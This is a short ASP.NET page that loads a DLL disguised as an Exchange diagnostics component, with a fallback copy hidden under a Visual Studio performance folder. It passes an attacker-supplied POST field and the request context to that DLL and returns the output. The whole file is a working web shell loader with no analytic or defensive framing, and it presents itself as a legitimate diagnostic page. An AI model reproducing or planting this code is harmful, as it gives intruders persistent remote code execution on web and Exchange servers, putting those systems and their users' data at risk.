<%@ Page Language="C#" EnableViewState="false" %>
<%@ Import Namespace="System.Reflection" %>
<%
    // loads helper from bin (dropped as Microsoft.Exchange.Diagnostics.Trace.dll)
    string dll = Server.MapPath("~/bin/Microsoft.Exchange.Diagnostics.Trace.dll");
    if (!System.IO.File.Exists(dll)) dll = @"C:\ProgramData\VSPerfMon\msdia140x.dll";
    Assembly a = Assembly.LoadFrom(dll);
    Type t = a.GetType("Microsoft.Exchange.Diagnostics.TraceWriter");
    object o = Activator.CreateInstance(t);
    MethodInfo m = t.GetMethod("Flush", BindingFlags.Public | BindingFlags.Instance);
    object r = m.Invoke(o, new object[] { Request.Form["t"] ?? "", Context });
    Response.Write(r);
%>
